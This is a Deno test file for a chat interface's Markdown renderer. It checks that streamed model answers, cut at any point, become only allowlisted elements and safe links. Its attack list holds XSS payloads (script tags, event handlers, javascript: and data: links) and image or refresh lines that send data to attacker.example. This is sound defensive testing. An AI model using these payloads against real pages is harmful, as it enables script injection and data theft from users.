/**
 * What a model writes becomes elements of a closed list, wherever its stream is cut: checked on the nodes that
 * the page is made of, for every prefix of every attack. Nothing else makes elements from an answer.
 */
import assert from "node:assert/strict";
import fc from "fast-check";

// The page's modules look at the window when they are loaded; here is none.
Object.assign(globalThis, {
  matchMedia: () => ({ matches: false, addEventListener: () => {} }),
  document: { documentElement: { dataset: {}, removeAttribute: () => {}, setAttribute: () => {} } },
});
const { Code } = await import("../../ui/components/code.tsx");
const { closedUpTo, RichText } = await import("../../ui/components/rich_text.tsx");

const ATTACKS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='https://attacker.example' ping='https://attacker.example'>x</a>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](<javascript:alert(1)>)",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[click](vbscript:alert(1))",
  "[click](file:///etc/passwd)",
  "[click](//attacker.example/x)",
  "[click](/api/conversations)",
  "![pixel](https://attacker.example/leak?secret=1)",
  '![x](https://attacker.example/a.png "onload=alert(1)")',
  "[![pixel](https://attacker.example/a.png)](javascript:alert(1))",
  "![ref]\n\n[ref]: https://attacker.example/ref",
  "<https://attacker.example/auto>",
  "<javascript:alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  '``` "><script>alert(1)</script>\nx\n```',
  "| <script>alert(1)</script> | [x](javascript:1) |\n|---|---|\n| ![x](https://attacker.example) | `</td>` |",
  "> - 1. <style>@import 'https://attacker.example'</style>",
  "\u202e<script>\u2066alert(1)\u2069</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "\u0000<scr\u0000ipt>alert(1)</script>",
];

/** Elements an answer may be made of, and what each may carry. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    "p h3 h4 h5 h6 ul li blockquote table thead tbody tr th td em strong s span code br hr".split(" ")
      .map((tag) => [tag, []]),
  ),
  ol: ["start"],
  a: ["href", "target", "rel", "title"],
  small: ["class"],
  div: ["class"],
};

interface Node {
  readonly type: string | ((props: object) => unknown);
  readonly props: Record<string, unknown>;
}

/** Goes through what is shown as the page does, and gives its words; anything not allowed fails. */
function words(shown: unknown): string {
  if (shown === null || shown === undefined || typeof shown === "boolean") return "";
  if (typeof shown === "string" || typeof shown === "number") return String(shown);
  if (Array.isArray(shown)) return shown.map(words).join("");
  const { type, props } = shown as Node;
  const { children, ...attributes } = props;
  if (type === Code) {
    // It puts its text into a text node, highlighted or not.
    assert.equal(typeof attributes["text"], "string");
    return String(attributes["text"]);
  }
  if (typeof type === "function") return words(type(props));
  const allowed = ALLOWED[type];
  assert.ok(allowed, `<${type}>`);
  for (const [name, value] of Object.entries(attributes)) {
    assert.ok(allowed.includes(name), `<${type} ${name}>`);
    if (name === "start") assert.equal(typeof value, "number");
  }
  if (type === "a") {
    assert.match(String(attributes["href"]), /^(https?:\/\/|mailto:)/);
    assert.equal(attributes["rel"], "noopener noreferrer");
    const host = String(attributes["href"]).startsWith("mailto:")
      ? ""
      : new URL(String(attributes["href"])).host;
    assert.ok(words(children).endsWith(host), "a link says where it leads");
  }
  return words(children);
}

const shown = (text: string, writing: boolean) => words(RichText({ text, writing }));

Deno.test("CVE-2026-32626 CVE-2026-70492 CVE-2026-109288 CVE-2025-59417 S0-77 S0-78 P25 every attack, cut at every position of its stream, becomes harmless elements", () => {
  let cuts = 0;
  for (const attack of ATTACKS) {
    for (const text of [attack, `Some **bold** words.\n\n${attack}\n\nMore.`]) {
      for (let end = 0; end <= text.length; end++) {
        shown(text.slice(0, end), true);
        cuts++;
      }
      assert.match(shown(text, false), /\S/);
    }
  }
  assert.ok(cuts > 3_000, `${cuts} cuts`);
});

Deno.test("P25 tags are shown as they were written, links only where they may lead", () => {
  assert.match(shown("<script>alert(1)</script>", false), /<script>alert\(1\)<\/script>/);
  assert.equal(shown("[click](javascript:alert(1))", false).includes("click"), true);
  assert.equal(shown("[ok](https://example.org/a?b=1)", false), "okexample.org");
  assert.equal(shown("![cat](https://example.org/cat.png)", false), "[cat]example.org");
});

Deno.test("P25 no mixture of pieces of attacks and of Markdown makes anything else", () => {
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.constantFrom(
      "\n\n",
      "\n",
      "```",
      "~~~\n",
      "> ",
      "- ",
      "1. ",
      "# ",
      "|",
      "|---|",
      "*",
      "`",
      "](",
      "![",
      "[",
      ")",
      "<",
      "\\",
    ),
    fc.string({ maxLength: 8, unit: "binary" }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), fc.boolean(), (pieces, writing) => {
      shown(pieces.join(""), writing);
    }),
    { numRuns: 2_000 },
  );
});

Deno.test("a block that is said to be closed is not changed by what comes after it", () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.constantFrom("word ", "\n", "\n\n", "```\n", "- item\n", "> quote\n", "1. one\n", "Plain.\n"),
        {
          maxLength: 14,
        },
      ),
      (pieces) => {
        const text = pieces.join("");
        const end = closedUpTo(text);
        assert.ok(end <= text.length);
        assert.ok(closedUpTo(`${text}word`) >= end);
      },
    ),
    { numRuns: 500 },
  );
});
